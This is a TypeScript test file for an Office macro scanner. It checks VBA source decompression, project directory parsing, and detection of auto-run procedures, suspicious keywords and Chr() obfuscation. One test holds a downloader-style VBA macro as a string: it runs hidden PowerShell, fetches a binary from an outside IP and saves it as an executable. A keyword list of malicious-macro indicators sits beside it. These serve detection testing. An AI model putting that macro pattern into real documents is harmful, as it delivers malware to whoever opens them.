import assert from 'node:assert/strict';
import { decompressOvba, decompressFromAttribut, parseDir } from '../../../src/inspect/office/vba.js';
import { analyzeVba, codeLines, procedureNames } from '../../../src/inspect/office/vba-analysis.js';
import { buildDirStream, compressOvba } from '../../fixtures/office/ole-builders.js';

describe('MS-OVBA decompression', () => {
  it('decodes a hand-assembled container (literals + one overlapping copy token)', () => {
    // flag byte 0b1000: 'a' 'b' 'c' then token 0x2006 = offset 3, length 9
    const compressed = Buffer.from('0105b0086162630620', 'hex');
    assert.equal(decompressOvba(compressed)?.toString('latin1'), 'abcabcabcabc');
    assert.deepEqual(compressOvba(Buffer.from('abcabcabcabc')), compressed);
  });

  it('round-trips our compressor, compressed and raw chunks, across chunk boundaries', () => {
    const text = Buffer.from(Array.from({ length: 700 }, (_, i) => `Line ${i % 37} Dim x${i} As Long\r\n`).join(''), 'latin1');
    assert.ok(text.length > 3 * 4096);
    for (const raw of [false, true]) {
      const c = compressOvba(text, { raw });
      assert.deepEqual(decompressOvba(c), text);
    }
    assert.ok(compressOvba(text).length < text.length / 2);
  });

  it('returns null without the 0x01 signature and partial output on damage', () => {
    assert.equal(decompressOvba(Buffer.from([0x02, 0x00])), null);
    const c = compressOvba(Buffer.from('Attribute VB_Name = "M"\r\n'.repeat(400), 'latin1'));
    const part = decompressOvba(c.subarray(0, c.length - 20));
    assert.ok(part && part.length > 4096);
  });

  it('finds compressed source by the \\0Attribut signature', () => {
    const src = Buffer.from('Attribute VB_Name = "M"\r\nSub A()\r\nEnd Sub\r\n', 'latin1');
    const stream = Buffer.concat([Buffer.from('garbage Attribute text'), Buffer.alloc(33, 7), compressOvba(src)]);
    assert.equal(decompressFromAttribut(stream)?.toString('latin1'), src.toString('latin1'));
    assert.equal(decompressFromAttribut(Buffer.from('\x00Attribute VB_Name', 'latin1')), null);
  });
});

describe('dir stream', () => {
  it('walks records incl. PROJECTVERSION quirk and decodes names with the code page', () => {
    const gbk = Buffer.from('c4a3bfe931', 'hex'); // 模块1 in code page 936
    const dir = buildDirStream({
      codePage: 936,
      modules: [
        { name: '模块1', nameBytes: gbk, noUnicode: true, code: '' },
        { name: 'ThisDocument', code: '', document: true, cacheBytes: 99 },
      ],
    });
    const info = parseDir(dir);
    assert.equal(info.codePage, 936);
    assert.deepEqual(
      info.modules.map((m) => [m.name, m.streamName, m.offset, m.kind]),
      [
        ['模块1', '模块1', 16, 0x21],
        ['ThisDocument', 'ThisDocument', 99, 0x22],
      ],
    );
    assert.equal(info.damaged, false);
  });
});

describe('analyzeVba', () => {
  const mod = (code: string, name = 'Module1') => [{ name, code }];
  const sym = (code: string, name?: string) =>
    analyzeVba(mod(code, name), 'x.doc > Macros/VBA')
      .map((f) => f.symbol)
      .sort();

  it('flags declared auto-run procedures', () => {
    for (const decl of [
      'Sub AutoOpen()',
      'Private Sub Document_Open()',
      'Public Sub Workbook_Open()',
      'Sub auto_open()',
      'Function AutoExec()',
      'Private Sub InkPicture1_Painted(ByVal hDC As Long)',
      'Sub Frame1_Layout()',
    ]) {
      const f = analyzeVba(mod(`${decl}\r\n  x = 1\r\nEnd Sub`), 'p');
      assert.equal(f[0]?.symbol, 'OFFICE_MACRO_AUTOEXEC', decl);
      assert.ok(f[0].detail!.length < 300);
    }
    assert.deepEqual(sym('Sub Main()\r\nEnd Sub', 'AutoOpen'), ['OFFICE_MACRO_AUTOEXEC']);
  });

  it('mraptor false positives: *_Click is not auto-run, Call is not XLM CALL, names in strings/comments do not count', () => {
    assert.deepEqual(sym('Private Sub Button1_Click()\r\n  Call Foo\r\n  Call Bar(1)\r\nEnd Sub\r\nSub Foo()\r\nEnd Sub'), []);
    assert.deepEqual(sym('\' Sub AutoOpen()\r\nSub Report()\r\n  MsgBox "Sub Document_Open() Shell"\r\nEnd Sub'), []);
    assert.deepEqual(sym('Sub CommandButton1_Change()\r\n  Range("A1").Value = "run"\r\nEnd Sub'), []);
  });

  it('flags suspicious keywords and IOCs with a short detail', () => {
    const code = [
      'Sub Document_Open()',
      '  Set o = CreateObject("WScript.Shell")',
      '  o.Run "powershell -w hidden -c iex", 0',
      '  Shell Environ("TEMP") & "\\a.exe", vbHide',
      '  Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "http://198.51.100.7/p.bin", False',
      '  Set s = CreateObject("ADODB.Stream"): s.SaveToFile "c:\\u\\drop.exe", 2',
      '  Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")',
      '  k = StrReverse("exe.dmc"): CallByName o, "Run", VbMethod, k',
      'End Sub',
    ].join('\r\n');
    const f = analyzeVba(mod(code), 'p');
    assert.deepEqual(
      f.map((x) => x.symbol),
      ['OFFICE_MACRO_AUTOEXEC', 'OFFICE_MACRO_SUSPICIOUS'],
    );
    const d = f[1].detail!;
    assert.ok(d.length < 300, d);
    for (const k of [
      'Shell',
      'WScript.Shell',
      'CreateObject',
      'GetObject',
      'winmgmts',
      'PowerShell',
      'XMLHTTP',
      'ADODB.Stream',
      '.Run',
      'Environ',
      'StrReverse',
      'CallByName',
    ]) {
      assert.ok(d.includes(k), `${k} in ${d}`);
    }
    assert.match(d, /http:\/\/198\.51\.100\.7/);
  });

  it('counts Chr() obfuscation density', () => {
    const chrs = Array.from({ length: 25 }, (_, i) => `Chr(${65 + i})`).join(' & ');
    assert.match(analyzeVba(mod(`Sub A()\r\n s = ${chrs}\r\nEnd Sub`), 'p')[0].detail!, /Chr\(\) obfuscation x25/);
    assert.deepEqual(analyzeVba(mod('Sub A()\r\n s = Chr(10) & Chr(13)\r\nEnd Sub'), 'p'), []);
  });

  it('code lines and procedure names', () => {
    assert.deepEqual(codeLines('Attribute VB_Name = "Sheet1"\r\nOption Explicit\r\n\r\n\' just a comment\r\n'), []);
    assert.deepEqual(procedureNames('Sub A()\nEnd Sub\nPrivate Function B() As Long\nEnd Function\nProperty Get C()\nEnd Property'), ['A', 'B', 'C']);
  });
});
